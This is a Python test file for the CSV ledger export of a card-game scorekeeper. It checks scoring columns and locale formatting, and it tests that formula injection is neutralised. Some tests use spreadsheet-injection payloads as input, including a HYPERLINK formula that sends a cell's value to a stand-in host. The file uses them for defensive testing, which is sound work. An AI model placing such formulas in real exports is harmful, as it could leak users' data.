"""The ledger for a spreadsheet, read back as a spreadsheet reads it."""

import csv
from io import StringIO

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from scorekeeper.explain import labels
from scorekeeper.export.spreadsheet import escape_formula, ledger_csv, spreadsheet
from scorekeeper.i18n import use_locale
from scorekeeper.rules.evening import Seated
from scorekeeper.rules.match import Match
from scorekeeper.rules.match_file import read_match
from scorekeeper.rules.model import RULES, BySide
from tests.rules.strategies import hands, house_rules
from tests.rules.table import sound_file
from tests.support.examples import share_of
from tests.support.printed_evening import EVENING, PASSED_OUT, Json, hand, match

pytestmark = pytest.mark.usefixtures("english")

LATE = {"adjust": {"A": -12, "B": 5}, "reason": "late"}


def columns(kept: Match, *seated: Seated) -> list[dict[str, str]]:
    """Each row, by the headings."""
    text = ledger_csv(kept, seated).decode("utf-8-sig")
    return list(csv.DictReader(StringIO(text, newline="")))


def number(text: str) -> int:
    return int(text or 0)


def adds_up(rows: list[dict[str, str]], sides: tuple[str, str]) -> bool:
    """Are a row's rules its score, and the scores so far its total?"""
    for side in sides:
        total = 0
        for row in rows:
            lines = sum(number(row[f"{side}: {labels.rule_name(rule)}"]) for rule in RULES)
            score = number(row[f"{side}: hand"])
            total += score
            if row["Dealer"] and lines != score:
                return False
            if number(row[f"{side}: total"]) != total:
                return False
    return True


def test_a_hand_tells_its_contract_and_every_rule_of_its_score() -> None:
    first, failed, doubled, *_rest = columns(match(EVENING))

    assert {name: text for name, text in first.items() if text} == {
        "Hand": "1",
        "Dealer": "Ανδρέας Γεωργίου",
        "Bidder": "Αετοί",
        "Bid": "90",
        "Trump": "Hearts",
        "Made or failed": "made",
        "Αετοί: points taken": "97",
        "Λιοντάρια: points taken": "65",
        "Αετοί: card points": "9",
        "Λιοντάρια: card points": "6",
        "Αετοί: missing point": "1",
        "Αετοί: stake": "9",
        "Αετοί: hand": "19",
        "Λιοντάρια: hand": "6",
        "Αετοί: total": "19",
        "Λιοντάρια: total": "6",
    }
    assert failed["Made or failed"] == "failed"
    assert doubled["Doubled"] == "×4"


def test_dealer_is_the_player_who_sat_there_at_that_hand() -> None:
    kept = match([PASSED_OUT, LATE, PASSED_OUT], open=hand("B", 90, "spades"))
    first = BySide(("Νίκος", ""), ("Ελένη", "Σωτήρης"))
    later = BySide(("Νίκος", "Μάριος"), ("Ελένη", "Σωτήρης"))
    rows = list(columns(kept, first, later, later))

    assert [row["Dealer"] for row in rows] == ["Σωτήρης", "", "Νίκος", "Ελένη Παπαδοπούλου"]
    assert [row["Dealer"] for row in columns(kept)][::2] == [
        "Ανδρέας Γεωργίου",
        "Μαρία Χριστοδούλου",
    ]


def test_there_is_a_column_for_each_rule_and_side_also_where_nothing_was_scored() -> None:
    with use_locale("el"):
        text = ledger_csv(match([])).decode("utf-8-sig")
    (heading,) = text.splitlines()

    rules = heading.split(";")[10:-5]
    assert len(rules) == 2 * len(RULES)
    assert rules[:2] == ["Αετοί: πόντοι", "Λιοντάρια: πόντοι"]
    assert rules[-1] == "Λιοντάρια: χαμένη πιλόττα"


def test_row_that_is_no_plain_hand_has_a_note() -> None:
    kept = match([LATE, PASSED_OUT, *EVENING[:1]], open=hand("B", "kapo", "spades", doubled=2))
    late, passed, _hand, open_contract = columns(kept)

    assert (late["Αετοί: hand"], late["Λιοντάρια: hand"], late["Note"]) == ("-12", "5", "late")
    assert (passed["Note"], passed["Bidder"], passed["Αετοί: hand"]) == ("passed out", "", "0")
    assert (open_contract["Bid"], open_contract["Note"]) == ("kapo", "not yet")
    assert open_contract["Αετοί: total"] == "7"


def test_a_hand_after_the_end_adds_nothing() -> None:
    won = match(EVENING, target=262)
    rows = columns(Match(sides=won.sides, rules=won.rules, entries=(*won.entries, won.entries[0])))

    assert [row["Note"] for row in rows[-2:]] == ["", "after the end"]
    assert (rows[-1]["Αετοί: hand"], rows[-1]["Αετοί: stake"]) == ("", "")
    assert adds_up(rows, ("Αετοί", "Λιοντάρια"))


def test_an_adjustment_after_the_end_adds_nothing_and_says_how_much_it_was() -> None:
    rows = columns(match([*EVENING, LATE], target=262))

    assert rows[-1]["Note"] == "late, −12 – 5, after the end"
    assert rows[-1]["Αετοί: hand"] == ""
    assert adds_up(rows, ("Αετοί", "Λιοντάρια"))


def test_it_is_what_spreadsheets_and_rfc_4180_agree_on() -> None:
    content = ledger_csv(match([{**LATE, "reason": 'a "late", row'}]))

    assert content.startswith(b"\xef\xbb\xbf"), "or Excel reads Greek as Latin"
    assert content.endswith(b"\r\n")
    assert b"\n" not in content.replace(b"\r\n", b"")
    assert b'"a ""late"", row"' in content


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
def test_a_formula_is_text(start: str) -> None:
    assert escape_formula(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("between", [",", ";", "\t", "|", "\n"])
@pytest.mark.parametrize("start", ["=", ' "=', "+", "-", "@", "＝"])
def test_a_formula_is_text_behind_whatever_ends_a_cell(between: str, start: str) -> None:
    text = f"x{between}{start}HYPERLINK(1)"
    assert escape_formula(text) == f"x{between}'{start}HYPERLINK(1)"


@pytest.mark.parametrize("split_at", [",", ";", "\t"])
@pytest.mark.parametrize("language", ["el", "en"])
def test_no_cell_runs_wherever_a_spreadsheet_splits(language: str, split_at: str) -> None:
    bad = 'x;=A(1);"=A(2)'
    worse = 'y,=A(3)," =A(4)'
    sides = {"A": {"name": bad, "players": [worse]}, "B": {"name": worse, "players": [bad]}}
    late = [{**LATE, "reason": reason} for reason in (bad, worse, '";=A(5)', '",=A(6)')]
    with use_locale(language):
        text = ledger_csv(match(late, sides=sides)).decode("utf-8-sig")
    cells = [cell for row in csv.reader(StringIO(text), delimiter=split_at) for cell in row]
    assert len(cells) > len(late)
    assert not [cell for cell in cells if cell.lstrip(" \"'").startswith("=") and "'" not in cell]
    naive = [part.lstrip(' "') for part in text.replace("\r\n", split_at).split(split_at)]
    assert not [part for part in naive if part.startswith("=")]


def test_a_greek_excel_finds_its_columns() -> None:
    with use_locale("el"):
        text = spreadsheet([["Ώρες", 1.5, -3, "α,β"]]).decode("utf-8-sig")
    assert text == "Ώρες;1,5;-3;α,β\r\n"
    with use_locale("en"):
        text = spreadsheet([["Hours", 1.5, -3, "a;b"]]).decode("utf-8-sig")
    assert text == "Hours,1.5,-3,a;b\r\n"


def test_names_and_reasons_run_nothing() -> None:
    bad = '=HYPERLINK("http://x/?"&A1)'
    sides = {side: {"name": f"{bad}{side}", "players": [bad]} for side in "AB"}
    rows = columns(match([{**LATE, "reason": "@SUM(A1)"}, *EVENING[:1]], sides=sides))

    cells = [cell for row in rows for cell in (*row, *row.values())]
    assert [c for c in cells if c[:1] in "=+@\t" and c] == []
    assert rows[0]["Note"] == "'@SUM(A1)"
    assert rows[0][f"'{bad}A: hand"] == "-12", "a negative number is a number"


@settings(max_examples=share_of(60), deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.data(), house_rules())
def test_every_row_adds_up_whatever_the_rules(data: st.DataObject, rules: Json) -> None:
    rows = data.draw(st.lists(hands(rules) | st.just(LATE) | st.just(PASSED_OUT), max_size=6))
    sides = {"A": {"name": "a"}, "B": {"name": "b"}}
    kept, _ = read_match(sound_file(rules, rows, sides=sides, target=5000))
    assert kept is not None
    with use_locale("en"):
        assert adds_up(columns(kept), ("a", "b"))
